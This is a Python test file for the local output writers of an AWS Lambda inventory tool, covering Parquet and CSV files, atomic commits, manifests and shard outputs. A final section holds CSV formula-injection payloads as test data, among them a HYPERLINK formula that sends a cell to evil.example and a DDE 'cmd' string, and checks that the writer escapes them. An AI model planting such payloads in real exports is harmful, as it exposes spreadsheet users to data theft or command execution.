"""Writing the inventory, its status file and the manifest locally: formats, row groups, atomic commit,
unwritable destinations. S3 destinations are tested in test_destination.py."""

from __future__ import annotations

import csv
import fcntl
import hashlib
import json
import os
import signal
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from support.batches import function_batch

import inventory.writers.sink
from inventory.contract.columns import ENRICHMENT_COLUMNS
from inventory.contract.layout import Format, status_name
from inventory.contract.record import RunInfo, RunRecord, build_record, parse_record
from inventory.contract.results import Status, TargetResult
from inventory.contract.schema import INVENTORY_SCHEMA, STATUS_SCHEMA
from inventory.contract.target import Account, Target
from inventory.errors import OutputError
from inventory.exits import ExitCode, for_error, for_signal
from inventory.signals import Stopped, stop_on_signals
from inventory.writers.destination import Destination, location_text, resolve_destination, resolve_output
from inventory.writers.sink import RunSink, csv_ready, open_sink

SNAPSHOT = datetime(2026, 11, 28, 11, 55, 26, 113611, tzinfo=UTC)


def _target(
    account_id: str = "012345678901", region: str = "eu-west-1", tags: tuple[str, ...] = ("env:prod",)
) -> Target:
    return Target(Account(account_id, f"acct-{account_id}", tags, f"arn:aws:iam::{account_id}:role/R", None), region)


def _item(name: str, **extra: Any) -> dict[str, Any]:
    return {
        "FunctionName": name,
        "FunctionArn": f"arn:aws:lambda:eu-west-1:012345678901:function:{name}",
        "Runtime": "python3.12",
        "Handler": "app.handler",
        "PackageType": "Zip",
        "Architectures": ["x86_64"],
        "CodeSize": 1234,
        "MemorySize": 128,
        "Timeout": 3,
        "LastModified": "2019-10-30T18:27:32.783+0000",
        "Environment": {"Variables": {"B_NAME": "value-b", "A_NAME": "value-a"}},
        **extra,
    }


def _batch(*names: str, target: Target | None = None) -> pa.RecordBatch:
    return function_batch(target or _target(), SNAPSHOT, [_item(n) for n in names])


def _status(rows: int = 1) -> pa.Table:
    return pa.Table.from_pylist(
        [
            {
                "snapshot_time": SNAPSHOT,
                "account_id": "012345678901",
                "account_name": "acct",
                "region": f"region-{i}",
                "status": "ok",
                "function_count": 2,
                "pages": 1,
                "retries": 0,
                "error_code": None,
                "error_message": None,
                "duration_ms": 12,
            }
            for i in range(rows)
        ],
        schema=STATUS_SCHEMA,
    )


def _listing(directory: Path) -> list[str]:
    return sorted(os.listdir(directory))


def _one_line(err: OutputError) -> str:
    text = str(err)
    assert text and "\n" not in text
    assert for_error(err) is ExitCode.USAGE
    return text


def _sink(path: Path, fmt: Format) -> RunSink:
    """A local file sink, as the job opens it for `--output FILE --format FMT`."""
    return open_sink(resolve_destination(str(path), fmt), STATUS_SCHEMA)


# --- resolve_output / status_name / Format ------------------------------------------------------------


@pytest.mark.parametrize(
    ("output", "fmt", "expected_name", "expected_fmt"),
    [
        ("inv.parquet", None, "inv.parquet", Format.PARQUET),
        ("inv.csv", None, "inv.csv", Format.CSV),
        ("inv.CSV", None, "inv.CSV", Format.CSV),
        ("inv.txt", None, "inv.txt", Format.PARQUET),
        ("inv.txt", Format.CSV, "inv.txt", Format.CSV),
        ("inv.csv", Format.CSV, "inv.csv", Format.CSV),
    ],
)
def test_resolve_output_file(
    tmp_path: Path, output: str, fmt: Format | None, expected_name: str, expected_fmt: Format
) -> None:
    path, chosen = resolve_output(str(tmp_path / output), fmt)
    assert path == tmp_path / expected_name
    assert chosen is expected_fmt


@pytest.mark.parametrize(
    ("fmt", "name"),
    [(None, "inventory.parquet"), (Format.PARQUET, "inventory.parquet"), (Format.CSV, "inventory.csv")],
)
def test_resolve_output_existing_directory(tmp_path: Path, fmt: Format | None, name: str) -> None:
    path, chosen = resolve_output(str(tmp_path), fmt)
    assert path == tmp_path / name
    assert chosen.value == name.rsplit(".", 1)[1]


@pytest.mark.parametrize(
    ("fmt", "name"),
    [(None, "inventory.parquet"), (Format.CSV, "inventory.csv")],
)
def test_resolve_output_trailing_slash(tmp_path: Path, fmt: Format | None, name: str) -> None:
    missing = tmp_path / "not" / "yet"
    path, _ = resolve_output(f"{missing}/", fmt)
    assert path == missing / name


def test_resolve_output_existing_directory_named_like_a_file(tmp_path: Path) -> None:
    directory = tmp_path / "looks.csv"
    directory.mkdir()
    path, chosen = resolve_output(str(directory), None)
    assert path == directory / "inventory.parquet"
    assert chosen is Format.PARQUET


@pytest.mark.parametrize(
    ("path", "fmt", "expected"),
    [
        ("out/inventory.parquet", Format.PARQUET, "out/inventory.status.parquet"),
        ("out/inventory.csv", Format.CSV, "out/inventory.status.csv"),
        ("out/lambda-2026-11-28.parquet", Format.PARQUET, "out/lambda-2026-11-28.status.parquet"),
        ("inv", Format.PARQUET, "inv.status.parquet"),
        ("out/inv.parquet", Format.CSV, "out/inv.status.csv"),
        ("/abs/dir/x.y.parquet", Format.PARQUET, "/abs/dir/x.y.status.parquet"),
    ],
)
def test_status_name(path: str, fmt: Format, expected: str) -> None:
    assert Path(path).with_name(status_name(Path(path).stem, fmt)) == Path(expected)


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("a.csv", Format.CSV),
        ("a.Csv", Format.CSV),
        ("a.parquet", Format.PARQUET),
        ("a", Format.PARQUET),
        ("a.pq", Format.PARQUET),
    ],
)
def test_format_from_path(name: str, fmt: Format) -> None:
    assert Format.from_path(Path(name)) is fmt


# --- Parquet ------------------------------------------------------------------------------------------


def test_parquet_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "inventory.parquet"
    sink = _sink(path, Format.PARQUET)
    assert sink.status_path == tmp_path / "inventory.status.parquet"
    sink.write(_batch("a", "b"))
    sink.write(_batch())  # empty target: nothing to write
    sink.write(_batch("c", target=_target("111111111111", "us-east-1", ())))
    assert sink.rows == 3
    sink.commit(_status(2))

    table = pq.read_table(path)
    assert table.schema.equals(INVENTORY_SCHEMA)
    assert table.num_rows == 3
    assert table.column("function_name").to_pylist() == ["a", "b", "c"]
    assert table.column("account_id").to_pylist() == ["012345678901", "012345678901", "111111111111"]
    assert table.column("account_tags").to_pylist() == [["env:prod"], ["env:prod"], []]
    assert table.column("environment_variable_names").to_pylist()[0] == ["A_NAME", "B_NAME"]
    assert table.column("last_modified").to_pylist()[0] == datetime(2019, 10, 30, 18, 27, 32, 783000, tzinfo=UTC)

    status = pq.read_table(sink.status_path)
    assert status.schema.equals(STATUS_SCHEMA)
    assert status.num_rows == 2


def test_parquet_read_by_pandas(tmp_path: Path) -> None:
    path = tmp_path / "inventory.parquet"
    sink = _sink(path, Format.PARQUET)
    sink.write(_batch("a", "b"))
    sink.commit(_status())
    frame = pd.read_parquet(path)
    assert list(frame.columns) == INVENTORY_SCHEMA.names
    assert len(frame) == 2
    assert frame["account_id"].tolist() == ["012345678901"] * 2  # leading zero kept: ids are strings
    assert str(frame["code_size"].dtype) == "int64"
    assert str(frame["last_modified"].dt.tz) == "UTC"
    assert frame["last_modified"].iloc[0] == pd.Timestamp("2019-10-30T18:27:32.783Z")
    assert list(frame["architectures"].iloc[0]) == ["x86_64"]
    status = pd.read_parquet(sink.status_path)
    assert list(status.columns) == STATUS_SCHEMA.names


@pytest.mark.parametrize("which", ["inventory", "status"])
def test_parquet_zstd(tmp_path: Path, which: str) -> None:
    sink = _sink(tmp_path / "inventory.parquet", Format.PARQUET)
    sink.write(_batch("a"))
    sink.commit(_status())
    meta = pq.ParquetFile(sink.path if which == "inventory" else sink.status_path).metadata
    assert meta.num_row_groups >= 1
    group = meta.row_group(0)
    assert {group.column(i).compression for i in range(group.num_columns)} == {"ZSTD"}


@pytest.mark.parametrize(("limit", "batches", "groups"), [(3, 10, 4), (2, 4, 2), (1, 5, 5), (5, 5, 1), (100, 7, 1)])
def test_row_groups_flushed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: int, batches: int, groups: int
) -> None:
    monkeypatch.setattr(inventory.writers.sink, "ROW_GROUP_ROWS", limit)
    path = tmp_path / "inventory.parquet"
    sink = _sink(path, Format.PARQUET)
    for i in range(batches):
        sink.write(_batch(f"f{i:02d}"))
    sink.commit(_status())
    meta = pq.ParquetFile(path).metadata
    assert meta.num_row_groups == groups
    assert meta.num_rows == batches
    assert all(meta.row_group(i).num_rows <= max(limit, 1) for i in range(meta.num_row_groups))
    assert pq.read_table(path).column("function_name").to_pylist() == [f"f{i:02d}" for i in range(batches)]


def test_row_groups_flushed_before_commit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inventory.writers.sink, "ROW_GROUP_ROWS", 2)
    sink = _sink(tmp_path / "inventory.parquet", Format.PARQUET)
    (tmp,) = [p for p in tmp_path.iterdir() if p.name.startswith(".inventory.parquet.")]
    size_before = tmp.stat().st_size
    for i in range(6):
        sink.write(_batch(f"f{i}", f"g{i}"))
    assert tmp.stat().st_size > size_before  # rows were streamed out, not held until commit
    sink.commit(_status())
    assert pq.ParquetFile(sink.path).metadata.num_row_groups > 1


def test_default_row_group_is_large() -> None:
    assert inventory.writers.sink.ROW_GROUP_ROWS == 65_536


@pytest.mark.parametrize("fmt", [Format.PARQUET, Format.CSV])
def test_empty_inventory_still_writes_valid_files(tmp_path: Path, fmt: Format) -> None:
    path = tmp_path / f"inventory.{fmt.value}"
    sink = _sink(path, fmt)
    sink.write(_batch())
    sink.commit(STATUS_SCHEMA.empty_table())
    assert sink.rows == 0
    assert _listing(tmp_path) == sorted([path.name, f"inventory.status.{fmt.value}"])
    if fmt is Format.PARQUET:
        table = pq.read_table(path)
        assert table.num_rows == 0
        assert table.schema.equals(INVENTORY_SCHEMA)
        assert pq.read_table(sink.status_path).schema.equals(STATUS_SCHEMA)
        assert list(pd.read_parquet(path).columns) == INVENTORY_SCHEMA.names
    else:
        with path.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        assert rows == [INVENTORY_SCHEMA.names]
        with sink.status_path.open(newline="", encoding="utf-8") as handle:
            assert list(csv.reader(handle)) == [STATUS_SCHEMA.names]


# --- CSV ----------------------------------------------------------------------------------------------


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


ENRICHMENT_NAMES = {name for name, _, _ in ENRICHMENT_COLUMNS}


def test_csv_round_trip_with_json_lists(tmp_path: Path) -> None:
    path = tmp_path / "inventory.csv"
    sink = _sink(path, Format.CSV)
    odd = _item('weird, "quoted"\nname', Layers=[{"Arn": "arn:aws:lambda:eu-west-1:1:layer:x:1"}])
    sink.write(function_batch(_target(tags=("env:prod", "team:a")), SNAPSHOT, [_item("plain"), odd]))
    sink.commit(_status(3))
    with path.open(newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header == INVENTORY_SCHEMA.names
    rows = _read_csv(path)
    assert len(rows) == 2
    plain, weird = rows
    assert plain["account_id"] == "012345678901"
    assert weird["function_name"] == 'weird, "quoted"\nname'
    assert json.loads(plain["architectures"]) == ["x86_64"]
    assert json.loads(plain["account_tags"]) == ["env:prod", "team:a"]
    assert json.loads(plain["layer_arns"]) == []
    assert plain["layer_arns"] == "[]"
    assert json.loads(weird["layer_arns"]) == ["arn:aws:lambda:eu-west-1:1:layer:x:1"]
    assert json.loads(plain["environment_variable_names"]) == ["A_NAME", "B_NAME"]
    for name, kind in zip(INVENTORY_SCHEMA.names, INVENTORY_SCHEMA.types, strict=True):
        if pa.types.is_list(kind) and name not in ENRICHMENT_NAMES:  # enrichment lists: null unless asked for
            assert isinstance(json.loads(plain[name]), list), name
    assert plain["code_size"] == "1234"
    assert plain["vpc_id"] == ""  # null: empty field
    assert plain["last_modified"].startswith("2019-10-30 18:27:32.783")
    assert len(_read_csv(sink.status_path)) == 3


def test_csv_read_by_pandas(tmp_path: Path) -> None:
    path = tmp_path / "inventory.csv"
    sink = _sink(path, Format.CSV)
    sink.write(_batch("a", "b"))
    sink.commit(_status())
    frame = pd.read_csv(path, dtype={"account_id": str}, converters={"architectures": json.loads})
    assert list(frame.columns) == INVENTORY_SCHEMA.names
    assert frame["account_id"].tolist() == ["012345678901"] * 2
    assert frame["architectures"].tolist() == [["x86_64"], ["x86_64"]]


def test_csv_row_groups_do_not_repeat_header(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inventory.writers.sink, "ROW_GROUP_ROWS", 1)
    path = tmp_path / "inventory.csv"
    sink = _sink(path, Format.CSV)
    for i in range(4):
        sink.write(_batch(f"f{i}"))
    sink.commit(_status())
    rows = _read_csv(path)
    assert [r["function_name"] for r in rows] == ["f0", "f1", "f2", "f3"]


def test_csv_ready_encodes_lists_only() -> None:
    table = pa.table(
        {
            "n": pa.array([1, 2, 3], pa.int64()),
            "s": pa.array(["x", None, "z"]),
            "l": pa.array([["a", "b"], [], None], pa.list_(pa.string())),
        }
    )
    ready = csv_ready(table)
    assert ready.schema.names == ["n", "s", "l"]
    assert ready.schema.field("n").type == pa.int64()
    assert ready.schema.field("s").type == pa.string()
    assert ready.schema.field("l").type == pa.string()
    assert ready.column("l").to_pylist() == ['["a", "b"]', "[]", None]
    assert ready.column("n").to_pylist() == [1, 2, 3]


def test_csv_ready_empty_inventory_schema() -> None:
    ready = csv_ready(INVENTORY_SCHEMA.empty_table())
    assert ready.num_rows == 0
    assert ready.schema.names == INVENTORY_SCHEMA.names
    assert not any(pa.types.is_list(t) for t in ready.schema.types)


# --- --format and the extension must agree; a file needs an extension -------------------------------


@pytest.mark.parametrize(("name", "fmt"), [("inv.parquet", Format.CSV), ("inv.csv", Format.PARQUET), ("inv", None)])
def test_output_format_conflict_or_no_extension_is_refused_before_any_file(
    tmp_path: Path, name: str, fmt: Format | None
) -> None:
    with pytest.raises(OutputError) as info:
        resolve_output(str(tmp_path / name), fmt)
    assert for_error(info.value) == 2
    assert "\n" not in str(info.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("fmt", "name"), [(None, "inventory.parquet"), (Format.CSV, "inventory.csv")])
def test_directory_output_end_to_end(tmp_path: Path, fmt: Format | None, name: str) -> None:
    path, chosen = resolve_output(str(tmp_path), fmt)
    sink = _sink(path, chosen)
    sink.write(_batch("a"))
    sink.commit(_status())
    assert _listing(tmp_path) == sorted([name, name.replace("inventory.", "inventory.status.")])


def test_trailing_slash_creates_the_directory(tmp_path: Path) -> None:
    path, fmt = resolve_output(f"{tmp_path}/a/b/", None)
    sink = _sink(path, fmt)
    sink.commit(_status())
    assert (tmp_path / "a" / "b" / "inventory.parquet").is_file()
    assert (tmp_path / "a" / "b" / "inventory.status.parquet").is_file()


# --- atomicity ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", [Format.PARQUET, Format.CSV])
def test_nothing_under_final_names_before_commit(tmp_path: Path, fmt: Format) -> None:
    path = tmp_path / f"inventory.{fmt.value}"
    sink = _sink(path, fmt)
    sink.write(_batch("a", "b"))
    assert not path.exists()
    assert not sink.status_path.exists()
    names = _listing(tmp_path)
    assert len(names) == 2
    assert all(n.startswith(".") and n.endswith(".tmp") for n in names)
    assert sum(n.startswith(f".inventory.{fmt.value}.") for n in names) == 1
    assert sum(n.startswith(f".inventory.status.{fmt.value}.") for n in names) == 1
    sink.commit(_status())
    assert _listing(tmp_path) == sorted([path.name, sink.status_path.name])


@pytest.mark.parametrize("fmt", [Format.PARQUET, Format.CSV])
def test_abort_removes_temp_files(tmp_path: Path, fmt: Format) -> None:
    sink = _sink(tmp_path / f"inventory.{fmt.value}", fmt)
    sink.write(_batch("a"))
    sink.abort()
    assert _listing(tmp_path) == []


def test_abort_twice_is_harmless(tmp_path: Path) -> None:
    sink = _sink(tmp_path / "inventory.parquet", Format.PARQUET)
    sink.abort()
    sink.abort()
    assert _listing(tmp_path) == []


def test_abort_keeps_previous_run_untouched(tmp_path: Path) -> None:
    path = tmp_path / "inventory.parquet"
    first = _sink(path, Format.PARQUET)
    first.write(_batch("old"))
    first.commit(_status())
    before = path.read_bytes()

    second = _sink(path, Format.PARQUET)
    second.write(_batch("new1", "new2"))
    assert path.read_bytes() == before  # the old file is intact while the new one is written
    second.abort()
    assert path.read_bytes() == before
    assert _listing(tmp_path) == ["inventory.parquet", "inventory.status.parquet"]


def test_commit_replaces_previous_run(tmp_path: Path) -> None:
    path = tmp_path / "inventory.parquet"
    for names in (("old",), ("new1", "new2")):
        sink = _sink(path, Format.PARQUET)
        sink.write(_batch(*names))
        sink.commit(_status(len(names)))
    assert pq.read_table(path).column("function_name").to_pylist() == ["new1", "new2"]
    assert pq.read_table(tmp_path / "inventory.status.parquet").num_rows == 2
    assert _listing(tmp_path) == ["inventory.parquet", "inventory.status.parquet"]


@pytest.mark.parametrize("fmt", [Format.PARQUET, Format.CSV])
def test_table_files_written_through_temp_files(tmp_path: Path, fmt: Format) -> None:
    path = tmp_path / f"t.{fmt.value}"
    sink = _sink(path, fmt)
    temps = sorted(p.name for p in tmp_path.iterdir())
    assert len(temps) == 2 and all(n.endswith(".tmp") for n in temps)
    assert sum(n.startswith(f".t.{fmt.value}.") for n in temps) == 1
    sink.write(_batch("a", "b"))
    sink.write(_batch())
    assert not path.exists()
    sink.commit(STATUS_SCHEMA.empty_table())  # an empty table written to the status file: header only
    assert _listing(tmp_path) == sorted([path.name, f"t.status.{fmt.value}"])
    if fmt is Format.PARQUET:
        assert pq.read_table(path).num_rows == 2
        assert pq.read_table(sink.status_path).num_rows == 0
    else:
        assert len(_read_csv(path)) == 2
        assert _read_csv(sink.status_path) == []


def test_table_files_abort(tmp_path: Path) -> None:
    sink = _sink(tmp_path / "t.parquet", Format.PARQUET)
    sink.write(_batch("a"))
    sink.abort()
    assert _listing(tmp_path) == []


# --- unwritable destinations --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", [Format.PARQUET, Format.CSV])
@pytest.mark.parametrize("depth", [1, 3])
def test_destination_under_a_regular_file(tmp_path: Path, fmt: Format, depth: int) -> None:
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("I am a file")
    path = blocker.joinpath(*["sub"] * (depth - 1), f"inventory.{fmt.value}")
    with pytest.raises(OutputError) as info:
        _sink(path, fmt)
    text = _one_line(info.value)
    assert text.startswith(f"{path}: cannot write output")
    assert _listing(tmp_path) == ["not-a-dir"]
    assert blocker.read_text() == "I am a file"


def test_destination_is_a_directory(tmp_path: Path) -> None:
    target = tmp_path / "inventory.parquet"
    target.mkdir()
    with pytest.raises(OutputError) as info:  # the run's file in a directory `tmp_path/` is taken by a directory
        open_sink(resolve_destination(f"{tmp_path}/", None), STATUS_SCHEMA)
    assert _one_line(info.value) == f"{target}: is a directory"
    assert _listing(target) == []
    assert _listing(tmp_path) == ["inventory.parquet"]


def test_status_destination_unwritable_cleans_inventory_temp(tmp_path: Path) -> None:
    (tmp_path / "inventory.status.parquet").mkdir()
    with pytest.raises(OutputError) as info:
        _sink(tmp_path / "inventory.parquet", Format.PARQUET)
    assert "inventory.status.parquet" in _one_line(info.value)
    assert _listing(tmp_path) == ["inventory.status.parquet"]  # no leftover temp file of the inventory


def test_output_error_is_usage() -> None:
    assert for_error(OutputError("x")) == ExitCode.USAGE == 2


# --- RunSink: destinations with a manifest ------------------------------------------------------------


def _outputs(dest: Destination) -> dict[str, str]:
    """What a run's record says it wrote to a file destination (as job/pipeline.py says it)."""
    return {"format": dest.fmt.value, "inventory": location_text(dest.inventory), "status": location_text(dest.status)}


def _record(tag: str = "run", dest: Destination | None = None, shard: tuple[int, int] | None = None) -> RunRecord:
    """A run's record as the pipeline builds it: one target listed, two functions."""
    target = _target()
    results = [TargetResult(target, Status.OK, 2, (), 1, 0, 0.1)]
    info = RunInfo(tag, SNAPSHOT, "0" * 64, shard, f"{tag}-write")
    outputs = _outputs(dest) if dest else {"format": "parquet", "inventory": "x", "status": "y"}
    return build_record(info, results, outputs, SNAPSHOT + timedelta(minutes=1))


def _files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


@pytest.mark.parametrize("fmt", [Format.PARQUET, Format.CSV])
def test_local_file_gets_a_manifest_beside_it(tmp_path: Path, fmt: Format) -> None:
    dest = resolve_destination(str(tmp_path / f"x.{fmt.value}"), None)
    record = _record(dest=dest)
    sink = open_sink(dest, STATUS_SCHEMA)
    sink.write(_batch("a"))
    sink.commit(_status(), record)
    inventory, status = tmp_path / f"x.{fmt.value}", tmp_path / f"x.status.{fmt.value}"
    assert _listing(tmp_path) == sorted(["x.manifest.json", inventory.name, status.name])
    text = (tmp_path / "x.manifest.json").read_text(encoding="utf-8")
    written = json.loads(text)
    assert {k: v for k, v in written.items() if k != "files"} == record.to_json()
    assert written["files"] == {
        "inventory": {"sha256": _sha256(inventory), "bytes": inventory.stat().st_size, "rows": 1},
        "status": {"sha256": _sha256(status), "bytes": status.stat().st_size, "rows": 1},
    }
    assert parse_record(text.encode(), "x.manifest.json") == record.with_files(written["files"])
    assert record.files == {}  # the record given is not changed: the manifest's copy gets the files
    assert written["outputs"] == {"format": fmt.value, "inventory": str(inventory), "status": str(status)}
    assert text.endswith("}\n") and text.index('"config_sha256"') < text.index('"write_id"')  # sorted keys
    assert text.startswith('{\n  "config_sha256": ')  # pretty-printed
    assert (tmp_path / "x.manifest.json").stat().st_mode & 0o777 == 0o666 & ~_current_umask()
    if fmt is Format.PARQUET:
        assert pq.read_table(inventory).num_rows == 1


def test_manifest_files_count_every_row_of_both_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`files` counts the rows written in every row group, and the status rows, not the last batch's."""
    monkeypatch.setattr(inventory.writers.sink, "ROW_GROUP_ROWS", 2)
    dest = resolve_destination(str(tmp_path / "x.parquet"), None)
    sink = open_sink(dest, STATUS_SCHEMA)
    for i in range(5):
        sink.write(_batch(f"f{i}", f"g{i}"))
    sink.commit(_status(3), _record(dest=dest))
    files = parse_record((tmp_path / "x.manifest.json").read_bytes(), "x.manifest.json").files
    assert files["inventory"]["rows"] == 10 == pq.read_table(tmp_path / "x.parquet").num_rows
    assert files["status"]["rows"] == 3 == pq.read_table(tmp_path / "x.status.parquet").num_rows
    assert pq.ParquetFile(tmp_path / "x.parquet").metadata.num_row_groups > 1


def test_a_rerun_replaces_all_three_files(tmp_path: Path) -> None:
    dest = resolve_destination(str(tmp_path / "x.parquet"), None)
    for tag, names in (("first", ("old1", "old2")), ("second", ("new",))):
        sink = open_sink(dest, STATUS_SCHEMA)
        sink.write(_batch(*names))
        sink.commit(_status(), _record(tag, dest))
    assert _listing(tmp_path) == ["x.manifest.json", "x.parquet", "x.status.parquet"]
    assert pq.read_table(tmp_path / "x.parquet").column("function_name").to_pylist() == ["new"]
    record = parse_record((tmp_path / "x.manifest.json").read_bytes(), "x.manifest.json")
    assert record.run_id == "second" and record.files["inventory"]["rows"] == 1
    assert record.files["inventory"]["sha256"] == _sha256(tmp_path / "x.parquet")


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _current_umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


@pytest.mark.parametrize("fmt", [Format.PARQUET, Format.CSV])
def test_local_directory_shards_write_their_own_files(tmp_path: Path, fmt: Format) -> None:
    """Two shards of one run into one directory: each writes its own three files, none overwrites another."""
    for shard, names in (((0, 2), ("a", "b")), ((1, 2), ("c",))):
        dest = resolve_destination(f"{tmp_path / 'data'}/", fmt, shard)
        sink = open_sink(dest, STATUS_SCHEMA)
        sink.write(_batch(*names))
        sink.commit(_status(), _record("run-1", dest, shard))
    ext = fmt.value
    assert _files(tmp_path / "data") == sorted(
        f"shard-{i}-of-2{suffix}" for i in (0, 1) for suffix in (".manifest.json", f".{ext}", f".status.{ext}")
    )
    for index, rows in ((0, 2), (1, 1)):
        record = parse_record((tmp_path / "data" / f"shard-{index}-of-2.manifest.json").read_bytes(), "m")
        assert (record.run_id, record.shard, record.files["inventory"]["rows"]) == ("run-1", (index, 2), rows)
        assert record.outputs["inventory"] == str(tmp_path / "data" / f"shard-{index}-of-2.{ext}")
    if fmt is Format.PARQUET:
        frame = pd.read_parquet(tmp_path / "data" / "shard-0-of-2.parquet")
        assert sorted(frame["function_name"]) == ["a", "b"]
    else:
        rows = _read_csv(tmp_path / "data" / "shard-1-of-2.csv")
        assert [r["function_name"] for r in rows] == ["c"]


def test_local_abort_publishes_nothing(tmp_path: Path) -> None:
    dest = resolve_destination(f"{tmp_path / 'out'}/", None, (0, 2))
    sink = open_sink(dest, STATUS_SCHEMA)
    sink.write(_batch("a"))
    sink.abort()
    assert _files(tmp_path) == []


def test_nothing_published_before_commit_and_temp_files_beside_targets(tmp_path: Path) -> None:
    dest = resolve_destination(f"{tmp_path / 'out'}/", None, (1, 2))
    sink = open_sink(dest, STATUS_SCHEMA)
    sink.write(_batch("a"))
    names = _files(tmp_path)
    assert len(names) == 2
    assert all(Path(n).name.startswith(".") and n.endswith(".tmp") for n in names)
    assert {str(Path(n).parent) for n in names} == {"out"}
    assert sorted(Path(n).name.split(".parquet.")[0] for n in names) == [".shard-1-of-2", ".shard-1-of-2.status"]
    sink.commit(_status())  # no record given: no manifest written
    assert _files(tmp_path) == ["out/shard-1-of-2.parquet", "out/shard-1-of-2.status.parquet"]


def test_manifest_location_taken_by_a_directory_fails_before_any_file(tmp_path: Path) -> None:
    (tmp_path / "x.manifest.json").mkdir()
    dest = resolve_destination(str(tmp_path / "x.parquet"), None)
    with pytest.raises(OutputError) as info:
        open_sink(dest, STATUS_SCHEMA)
    assert _one_line(info.value) == f"{tmp_path / 'x.manifest.json'}: is a directory"
    assert _listing(tmp_path) == ["x.manifest.json"]


def test_directory_under_a_regular_file_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    dest = resolve_destination(f"{tmp_path / 'file'}/", None)
    with pytest.raises(OutputError) as info:
        open_sink(dest, STATUS_SCHEMA)
    assert _one_line(info.value).startswith(f"{dest.inventory}: cannot write output")
    assert _listing(tmp_path) == ["file"]


def test_run_sink_reports_its_locations(tmp_path: Path) -> None:
    dest = resolve_destination(f"{tmp_path}/", Format.CSV)
    sink = open_sink(dest, STATUS_SCHEMA)
    assert (sink.path, sink.status_path) == (tmp_path / "inventory.csv", tmp_path / "inventory.status.csv")
    assert sink.destination is dest
    sink.abort()


def test_legacy_inventory_sink_is_a_run_sink_without_manifest(tmp_path: Path) -> None:
    sink = _sink(tmp_path / "inv.parquet", Format.PARQUET)
    assert isinstance(sink, RunSink)
    assert (sink.path, sink.status_path) == (tmp_path / "inv.parquet", tmp_path / "inv.status.parquet")
    sink.commit(_status())
    assert _listing(tmp_path) == ["inv.parquet", "inv.status.parquet"]


# --- CSV cells a spreadsheet would run as formulas ------------------------------------------------------

HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
    "'plain quote",
    "a = b",
    "-",
    "plain",
)
# The expressions docs/schema.md gives readers; the tests below use them verbatim.
PANDAS_PATTERN, PANDAS_REPLACEMENT = r"^'('*[=+\-@\t\r])", r"\1"
PANDAS_UNESCAPE = f'.replace(r"{PANDAS_PATTERN}", r"{PANDAS_REPLACEMENT}", regex=True)'  # as in the docs
DUCKDB_MACRO = """CREATE MACRO csv_unescape(s) AS regexp_replace(s, '^''(''*[=+\\-@\\t\\r])', '\\1');"""
ROOT = Path(__file__).resolve().parent.parent.parent


def _hostile_inventory(tmp_path: Path) -> tuple[Path, Path]:
    path = tmp_path / "inventory.csv"
    sink = _sink(path, Format.CSV)
    items = [_item(f"f{i}", Description=text) for i, text in enumerate(HOSTILE_CELLS)]
    account = Account("012345678901", "=cmd|'/C calc'!A0", ("@team",), "arn:aws:iam::012345678901:role/R", None)
    sink.write(function_batch(Target(account, "eu-west-1"), SNAPSHOT, items))
    status = _status(len(HOSTILE_CELLS)).to_pylist()
    for row, text in zip(status, HOSTILE_CELLS, strict=True):
        row.update(status="failed", error_code="+Code", error_message=text, function_count=None)
    sink.commit(pa.Table.from_pylist(status, schema=STATUS_SCHEMA))
    return path, sink.status_path


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    for path in _hostile_inventory(tmp_path):
        with path.open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert cells, path
        assert [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []
    rows = _read_csv(tmp_path / "inventory.csv")
    assert [r["description"] for r in rows][:3] == [f"'{HOSTILE_CELLS[0]}", f"'{HOSTILE_CELLS[1]}", "'-2+3"]
    assert rows[0]["account_name"] == "'=cmd|'/C calc'!A0"
    assert json.loads(rows[0]["account_tags"]) == ["@team"]  # a JSON list starts with `[`: never escaped
    assert rows[0]["memory_size"] == "128"
    parquet = tmp_path / "inventory.parquet"  # Parquet is typed: never escaped
    sink = _sink(parquet, Format.PARQUET)
    sink.write(function_batch(_target(), SNAPSHOT, [_item("f", Description=HOSTILE_CELLS[0])]))
    sink.commit(_status())
    assert pq.read_table(parquet).column("description").to_pylist() == [HOSTILE_CELLS[0]]


def test_csv_escaping_is_undone_by_the_documented_pandas_and_duckdb_expressions(tmp_path: Path) -> None:
    docs = (ROOT / "docs" / "schema.md").read_text(encoding="utf-8")
    assert PANDAS_UNESCAPE in docs and DUCKDB_MACRO in docs
    assert PANDAS_UNESCAPE in (ROOT / "README.md").read_text(encoding="utf-8")
    inventory, status = _hostile_inventory(tmp_path)

    frame = pd.read_csv(inventory, dtype={"account_id": str}).replace(PANDAS_PATTERN, PANDAS_REPLACEMENT, regex=True)
    assert frame["description"].tolist() == list(HOSTILE_CELLS)
    assert set(frame["account_name"]) == {"=cmd|'/C calc'!A0"}
    assert frame["memory_size"].tolist() == [128] * len(HOSTILE_CELLS)
